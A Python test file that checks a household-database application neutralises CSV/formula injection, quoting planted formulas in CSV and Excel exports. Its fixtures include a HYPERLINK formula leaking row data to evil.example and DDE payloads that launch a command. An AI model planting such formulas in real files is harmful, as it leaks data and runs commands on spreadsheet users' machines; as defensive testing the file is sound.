"""Formula injection (OWASP's CSV injection): names from imported files that a spreadsheet would run as formulas come
out of every Excel and CSV export as text, prefixed with a quote; numbers stay numbers."""
from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from accounts import exports
from board import ledgers
from conftest import account_for
from geo import db
from geo.cells import TRIGGERS, neutralise, neutralise_frame
from geo.cli import main

from test_import import dataset

# what an imported name may hold: a link that leaks the row, a DDE command, and every trigger Excel, LibreOffice
# and WPS read a formula from
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]
EVIL_HEADER = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def loaded(module_db_url, tmp_path_factory):
    assert main(["import", str(dataset(tmp_path_factory.mktemp("ds")))]) == 0
    with db.transaction(module_db_url) as conn, conn.cursor() as cur:
        for hid, text in zip(("H1", "H2", "H3", "H4"), FORMULAS):
            cur.execute("UPDATE households SET head_name = %s WHERE id = %s", (text, hid))
        cur.execute("UPDATE households SET extra = coalesce(extra, '{}'::jsonb) || %s::jsonb WHERE id = 'H1'",
                    (json.dumps({EVIL_HEADER: FORMULAS[4], "note": FORMULAS[5]}),))
    return module_db_url


def _inert(cells: list, xml: bool = False) -> None:
    """No text cell begins with a formula trigger; every planted formula is there, quoted (in a workbook's XML a
    carriage return reads back as a newline)."""
    texts = [c for c in cells if isinstance(c, str)]
    assert [c for c in texts if c.startswith(TRIGGERS)] == []
    for f in FORMULAS + [EVIL_HEADER]:
        assert "'" + (f.replace("\r", "\n") if xml else f) in texts, f


def csv_cells(data: bytes) -> list:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def xlsx_cells(data) -> list:
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []   # no formula anywhere
    return [c.value for c in cells]


def test_the_one_function_quotes_text_only():
    assert [neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("张三") == "张三" and neutralise("a=b") == "a=b" and neutralise("") == ""
    df = neutralise_frame(pd.DataFrame({"n": [-1, 2], "name": ["=1+1", "李四"], EVIL_HEADER: ["x", None]}))
    assert df["n"].tolist() == [-1, 2] and df["name"].tolist() == ["'=1+1", "李四"]
    assert list(df.columns) == ["n", "name", "'" + EVIL_HEADER]


def test_the_owners_csv_and_excel_exports_are_inert(loaded, tmp_path):
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"households.{fmt}"
        assert main(["export", "households", "--out", str(out)]) == 0
        _inert(csv_cells(out.read_bytes()) if fmt == "csv" else xlsx_cells(out), xml=fmt == "xlsx")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "households.csv").read_text("utf-8-sig"), newline="")))
    assert rows[0]["members"] == "4" and float(rows[0]["lon"]) == pytest.approx(101.9001)  # numbers untouched
    members = [r[3] for r in load_workbook(tmp_path / "households.xlsx").active.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(m, int) for m in members)


def test_a_users_export_is_inert(loaded, tmp_path):
    u = account_for("county_planner", "530427000000", url=loaded)
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"mine.{fmt}"
        assert exports.export_layer(u, "households", out, url=loaded) == 4
        _inert(csv_cells(out.read_bytes()) if fmt == "csv" else xlsx_cells(out), xml=fmt == "xlsx")


def test_the_ledger_workbook_is_inert(loaded):
    conn = db.connect(loaded)
    try:
        raw = ledgers.query_ledger(conn, "households")
    finally:
        conn.close()
    raw["extra"] = [FORMULAS[4], FORMULAS[5], None, None]
    table = ledgers.labelled("households", raw.rename(columns={"extra": EVIL_HEADER}), "zh")
    _inert(xlsx_cells(ledgers.to_xlsx(table, "农户")), xml=True)
